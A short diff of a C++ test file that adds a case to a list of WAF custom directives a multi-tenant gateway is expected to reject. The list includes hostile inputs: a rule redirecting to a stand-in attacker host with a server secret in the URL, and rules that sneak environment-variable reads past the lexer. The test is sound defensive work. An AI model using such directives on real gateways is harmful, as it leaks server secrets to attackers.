@@ -237,6 +237,8 @@ TEST_CASE("profile WAF custom directives are parsed and confined to the tenant")
       R"("SecRule ARGS \"@rx 1\" \"id:18,phase:1,redirect:https://evil.example/%{REMOTE_USERENV.GW_SECRET}\"")",
       // The same in a rule's variables: the environment variable became the regex (was 201).
       R"("SecRule REQUEST_LINEENV:GW_SECRET \"TOP\" \"id:19,phase:1,deny,status:403\"")",
+      // A regex key the engine's lexer ended early, then ENV as a variable of its own (was 201).
+      R"("SecRule ARGS:/a}/ENV:GW_SECRET \"TOP\" \"id:20,phase:1,deny\"")",
   };
   int n = 2;
   for (const std::string& d : rejected) {
